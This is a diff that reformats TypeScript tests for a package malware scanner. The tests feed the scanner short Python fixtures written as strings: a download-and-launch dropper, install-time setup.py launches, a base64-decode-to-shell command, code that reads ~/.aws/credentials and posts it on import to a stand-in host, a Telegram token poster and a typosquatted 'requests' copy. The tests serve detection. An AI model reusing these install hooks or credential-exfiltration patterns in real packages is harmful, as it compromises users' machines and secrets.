@@ -19,7 +19,10 @@ function target(files: Record<string, string>): OpenedArchive {
   };
 }
 
-async function analyse(files: Record<string, string>, meta: { name?: string; version?: string } = {}): Promise<TargetReport> {
+async function analyse(
+  files: Record<string, string>,
+  meta: { name?: string; version?: string } = {},
+): Promise<TargetReport> {
   await initAnalysis();
   const kind = meta.name ? 'distribution' : 'directory';
   return analyzeTarget(target(files), { kind, ...meta, now: new Date('2026-11-28T00:00:00Z') });
@@ -30,65 +33,103 @@ const rules = (report: TargetReport) => report.files.flatMap((f) => f.findings.m
 
 test('a dropper whose download and launch sit in different files is joined to high', async () => {
   const report = await analyse({
-    'demo/fetch.py': 'import os, urllib.request\n\ndef fetch():\n    data = urllib.request.urlopen("http://192.0.2.7/u.bin").read()\n    open(os.path.join(os.getenv("TEMP"), "u.exe"), "wb").write(data)\n',
+    'demo/fetch.py':
+      'import os, urllib.request\n\ndef fetch():\n    data = urllib.request.urlopen("http://192.0.2.7/u.bin").read()\n    open(os.path.join(os.getenv("TEMP"), "u.exe"), "wb").write(data)\n',
     'demo/launch.py': 'import os, subprocess\n\ndef launch():\n    subprocess.Popen(os.getenv("TEMP") + "\\\\u.exe")\n',
   });
   assert.ok(atLeast(report.risk, 'high'), `${report.risk}: ${report.reasons.join(' | ')}`);
-  assert.ok(report.reasons.some((r) => r.startsWith('downloads from the network and launches a program')), report.reasons.join(' | '));
+  assert.ok(
+    report.reasons.some((r) => r.startsWith('downloads from the network and launches a program')),
+    report.reasons.join(' | '),
+  );
 });
 
 test('setup.py launching a program or a script from the home folder at install time is high', async () => {
-  const start = await analyse({ 'setup.py': 'import os\nfrom setuptools import setup\nos.system("start " + os.getenv("APPDATA") + "\\\\helper.exe")\nsetup(name="demo")\n' });
+  const start = await analyse({
+    'setup.py':
+      'import os\nfrom setuptools import setup\nos.system("start " + os.getenv("APPDATA") + "\\\\helper.exe")\nsetup(name="demo")\n',
+  });
   assert.ok(rules(start).includes('process-launch-payload'));
   assert.equal(start.risk, 'high');
-  const script = await analyse({ 'setup.py': 'import os, subprocess\nfrom setuptools import setup\nsubprocess.Popen(["python3", os.path.expanduser("~/x.py")])\nsetup(name="demo")\n' });
+  const script = await analyse({
+    'setup.py':
+      'import os, subprocess\nfrom setuptools import setup\nsubprocess.Popen(["python3", os.path.expanduser("~/x.py")])\nsetup(name="demo")\n',
+  });
   assert.equal(script.risk, 'high', script.reasons.join(' | '));
 });
 
 test('echo <base64> | base64 -d | sh at install time is high', async () => {
-  const report = await analyse({ 'setup.py': 'import os\nfrom setuptools import setup\nos.system("echo ZWNobyBoZWxsbwo= | base64 -d | sh")\nsetup(name="demo")\n' });
+  const report = await analyse({
+    'setup.py':
+      'import os\nfrom setuptools import setup\nos.system("echo ZWNobyBoZWxsbwo= | base64 -d | sh")\nsetup(name="demo")\n',
+  });
   assert.ok(rules(report).includes('exec-decoded-payload'));
   assert.equal(report.risk, 'high');
 });
 
 test('build steps in setup.py stay below high', async () => {
-  const report = await analyse({ 'setup.py': 'import subprocess\nfrom setuptools import setup\nversion = subprocess.check_output(["git", "describe", "--tags"]).decode()\nsubprocess.check_call(["make", "-C", "native"])\nsetup(name="demo", version=version)\n' });
+  const report = await analyse({
+    'setup.py':
+      'import subprocess\nfrom setuptools import setup\nversion = subprocess.check_output(["git", "describe", "--tags"]).decode()\nsubprocess.check_call(["make", "-C", "native"])\nsetup(name="demo", version=version)\n',
+  });
   assert.ok(!atLeast(report.risk, 'high'), `${report.risk}: ${report.reasons.join(' | ')}`);
 });
 
 test('a credential store read in one file and data sent on import from another is high; an SDK doing both when called is not', async () => {
   const stealer = await analyse({
-    'demo/__init__.py': 'import requests\nfrom .store import gather\nrequests.post("https://collect.example/in", data=gather())\n',
+    'demo/__init__.py':
+      'import requests\nfrom .store import gather\nrequests.post("https://collect.example/in", data=gather())\n',
     'demo/store.py': 'import os\n\ndef gather():\n    return open(os.path.expanduser("~/.aws/credentials")).read()\n',
   });
   assert.ok(atLeast(stealer.risk, 'high'), `${stealer.risk}: ${stealer.reasons.join(' | ')}`);
   const sdk = await analyse({
-    'sdk/config.py': 'import os\n\ndef load_profile():\n    with open(os.path.expanduser("~/.aws/credentials")) as f:\n        return f.read()\n',
-    'sdk/client.py': 'import requests\n\nclass Client:\n    def __init__(self, endpoint):\n        self.endpoint = endpoint\n\n    def call(self, body):\n        return requests.post(self.endpoint, json=body)\n',
+    'sdk/config.py':
+      'import os\n\ndef load_profile():\n    with open(os.path.expanduser("~/.aws/credentials")) as f:\n        return f.read()\n',
+    'sdk/client.py':
+      'import requests\n\nclass Client:\n    def __init__(self, endpoint):\n        self.endpoint = endpoint\n\n    def call(self, body):\n        return requests.post(self.endpoint, json=body)\n',
   });
   assert.ok(!atLeast(sdk.risk, 'high'), `${sdk.risk}: ${sdk.reasons.join(' | ')}`);
 });
 
 test('a hard-coded Telegram bot token with code that posts is high', async () => {
   const report = await analyse({
-    'demo/notify.py': 'import requests\nTOKEN = "5550001112:AAEq7fakeTokenForTestsOnlyZx9Qw3Rt5"\n\ndef notify(text):\n    requests.post(f"https://api.telegram.example/bot{TOKEN}/sendMessage", data={"chat_id": 1, "text": text})\n',
+    'demo/notify.py':
+      'import requests\nTOKEN = "5550001112:AAEq7fakeTokenForTestsOnlyZx9Qw3Rt5"\n\ndef notify(text):\n    requests.post(f"https://api.telegram.example/bot{TOKEN}/sendMessage", data={"chat_id": 1, "text": text})\n',
   });
-  assert.ok(report.reasons.some((r) => r.includes('Telegram bot token')), report.reasons.join(' | '));
+  assert.ok(
+    report.reasons.some((r) => r.includes('Telegram bot token')),
+    report.reasons.join(' | '),
+  );
   assert.ok(atLeast(report.risk, 'high'));
 });
 
 test('a look-alike name that ships the popular package itself is a trojanized copy', async () => {
   const report = await analyse(
-    { 'reqeusts-1.0/requests/__init__.py': 'from .api import get\n', 'reqeusts-1.0/requests/api.py': 'def get(url):\n    return url\n' },
+    {
+      'reqeusts-1.0/requests/__init__.py': 'from .api import get\n',
+      'reqeusts-1.0/requests/api.py': 'def get(url):\n    return url\n',
+    },
     { name: 'reqeusts', version: '1.0' },
   );
-  assert.ok(report.reasons.some((r) => r.startsWith('ships a copy of the popular package "requests"')), report.reasons.join(' | '));
+  assert.ok(
+    report.reasons.some((r) => r.startsWith('ships a copy of the popular package "requests"')),
+    report.reasons.join(' | '),
+  );
   assert.ok(atLeast(report.risk, 'high'));
 });
 
 test('a network call to an out-of-band collector is a callback; a tunnel host alone is not', () => {
   const call = (host: string) => ({
-    finding: { rule: 'egress-network-call', severity: 'medium' as const, line: 3, column: 1, message: 'requests.get', code: '', trigger: 'call' as const, destination: { host, kind: 'tunnel-or-oast' } },
+    finding: {
+      rule: 'egress-network-call',
+      severity: 'medium' as const,
+      line: 3,
+      column: 1,
+      message: 'requests.get',
+      code: '',
+      trigger: 'call' as const,
+      destination: { host, kind: 'tunnel-or-oast' },
+    },
   });
   assert.equal(judge([call('abc123.oast.fun')]).risk, 'high');
   assert.equal(judge([call('demo.ngrok-free.app')]).risk, 'medium');
@@ -96,15 +137,28 @@ test('a network call to an out-of-band collector is a callback; a tunnel host al
 
 test('setup.py that downloads and then starts a program, in separate statements, is high', async () => {
   const report = await analyse({
-    'setup.py': 'import os, urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve(os.environ.get("U", ""), "helper.bin")\nos.system(os.environ.get("RUN", ""))\nsetup(name="demo")\n',
+    'setup.py':
+      'import os, urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve(os.environ.get("U", ""), "helper.bin")\nos.system(os.environ.get("RUN", ""))\nsetup(name="demo")\n',
   });
-  assert.ok(report.reasons.some((r) => r.startsWith('reaches the network and starts a program')), report.reasons.join(' | '));
+  assert.ok(
+    report.reasons.some((r) => r.startsWith('reaches the network and starts a program')),
+    report.reasons.join(' | '),
+  );
   assert.ok(atLeast(report.risk, 'high'));
 });
 
 test('posting data to a raw IP address is high; reading from an API host is not', async () => {
-  const post = await analyse({ 'demo/api.py': 'import requests\n\ndef validate(key):\n    return requests.post("http://192.0.2.44:8000/api/v1/validate", json={"key": key})\n' });
-  assert.ok(post.reasons.some((r) => r.startsWith('sends data to 192.0.2.44')), post.reasons.join(' | '));
-  const read = await analyse({ 'demo/api.py': 'import requests\n\ndef price(pair):\n    return requests.get(f"https://api.prices.example/v1/{pair}").json()\n' });
+  const post = await analyse({
+    'demo/api.py':
+      'import requests\n\ndef validate(key):\n    return requests.post("http://192.0.2.44:8000/api/v1/validate", json={"key": key})\n',
+  });
+  assert.ok(
+    post.reasons.some((r) => r.startsWith('sends data to 192.0.2.44')),
+    post.reasons.join(' | '),
+  );
+  const read = await analyse({
+    'demo/api.py':
+      'import requests\n\ndef price(pair):\n    return requests.get(f"https://api.prices.example/v1/{pair}").json()\n',
+  });
   assert.ok(!atLeast(read.risk, 'medium'), read.risk);
 });
